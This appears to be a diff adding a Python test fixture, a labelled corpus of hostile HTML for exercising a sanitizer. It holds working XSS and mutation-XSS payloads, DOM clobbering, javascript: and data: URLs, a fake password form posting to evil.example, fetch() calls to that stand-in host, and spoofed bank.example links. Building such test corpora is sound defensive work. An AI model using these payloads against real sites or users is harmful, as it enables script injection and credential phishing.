@@ -1,0 +1,50 @@
+"""Hostile HTML, each a known way to run, fetch, fake or break out; by name. Hosts are reserved ones."""
+
+CALLS = "https://evil.example/called"
+CORPUS = {
+    "script": f"<p>one</p><script src={CALLS}></script><script>fetch('{CALLS}')</script>",
+    "handler": f"<p onclick=\"location='{CALLS}'\" onmouseover=alert(1)>word</p>",
+    "img": f"<img src={CALLS} onerror=alert(1) alt=Logo><img srcset='{CALLS} 2x'><image src={CALLS}>",
+    "background": f"<table background={CALLS}><tr><td background={CALLS} bgcolor=red>x</table>",
+    "svg": f"<svg onload=alert(1)><image href={CALLS} /><use href={CALLS}#a /><script>alert(1)</script></svg>",
+    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
+    "mathml": "<math><mi xlink:href='javascript:alert(1)'>x</mi><annotation-xml encoding='text/html'>"
+    "<script>alert(1)</script></annotation-xml></math>",
+    "style import": f"<style>@import url({CALLS}); body{{background:url({CALLS})}}</style><p>x",
+    "style attribute": f"<p style=\"background:url('{CALLS}');position:fixed;inset:0\">x</p>",
+    "link": f"<link rel=stylesheet href={CALLS}><link rel=prefetch href={CALLS}><link rel=dns-prefetch href=//evil.example>",
+    "base": "<base href='https://evil.example/'><a href=login>here</a>",
+    "refresh": f"<meta http-equiv=refresh content='0;url={CALLS}'><p>x",
+    "data url": "<a href='data:text/html,<script>alert(1)</script>'>x</a><iframe src='data:text/html,y'></iframe>",
+    "javascript url": "<a href='javascript:alert(1)'>x</a><a href=' java\tscript:alert(1)'>y</a>"
+    "<a href='&#106;avascript:alert(1)'>z</a><a href='vbscript:x'>w</a>",
+    "form": f"<form action={CALLS}><input name=password type=password autofocus onfocus=alert(1)>"
+    f"<button formaction={CALLS}>Sign in</button></form><isindex action={CALLS}>",
+    "frames": f"<iframe src={CALLS} srcdoc='<script>alert(1)</script>'></iframe><object data={CALLS}></object>"
+    f"<embed src={CALLS}><frameset><frame src={CALLS}></frameset>",
+    "media": f"<video src={CALLS} poster={CALLS} autoplay><source src={CALLS}></video><audio src={CALLS} autoplay></audio>",
+    "picture": f"<picture><source srcset={CALLS}><img src={CALLS} alt=Prize></picture>",
+    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
+    "mutation mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "mutation table": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "mutation svg": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "mutation noembed": "<noembed><a title=\"</noembed><img src=1 onerror=alert(1)>\">",
+    "mutation xmp": "<xmp><a title=\"</xmp><img src=1 onerror=alert(1)>\"></xmp>",
+    "mutation textarea": "<textarea><a title=\"</textarea><img src=1 onerror=alert(1)>\"></textarea>",
+    "mutation title": "<svg><title><a title=\"</title><img src=1 onerror=alert(1)>\"></title></svg>",
+    "mutation template": "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
+    "mutation cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+    "broken tags": "<<p>x<p/onclick=alert(1)><img/src/onerror=alert(1)//><a/href=javascript:alert(1)>y",
+    "clobbering": "<a id=main name=main href=https://a.example/>x</a><form id=card name=body></form><img name=location>",
+    "htmx": f"<p hx-get=/door hx-trigger=load data-key=n data-open class=button>x</p><p hx-on:load=alert(1) data-hx-get={CALLS}>",
+    "classes": "<p class='door-verdict host-elsewhere picture'>x</p><span class=host>bank.example</span>",
+    "ours": "<a href=/door/undo/1>undo</a><a href=//evil.example/x>y</a><a href='?id=1'>z</a><a href='#top'>t</a>",
+    "ping": f"<a href=https://a.example/ ping={CALLS} download attributionsrc={CALLS}>x</a>",
+    "other host": "<a href='https://evil.example/in'>https://bank.example/login</a>",
+    "user name": "<a href='https://bank.example@evil.example/'>x</a><a href='https://bank.example\\@evil.example'>y</a>",
+    "controls": "<a href='https://bank.example\u202e/x'>x</a><a href='https://bank.example\x00.evil.example/'>y</a>",
+    "nul": "<scr\x00ipt>y</scr\x00ipt><p>x</p>",
+    "dialog": "<dialog open>Sign in again</dialog><details open ontoggle=alert(1)><summary>more</summary>x</details>",
+    "portal": f"<portal src={CALLS}></portal><fencedframe src={CALLS}></fencedframe><slot></slot><marquee onstart=alert(1)>x",
+}  # fmt: skip
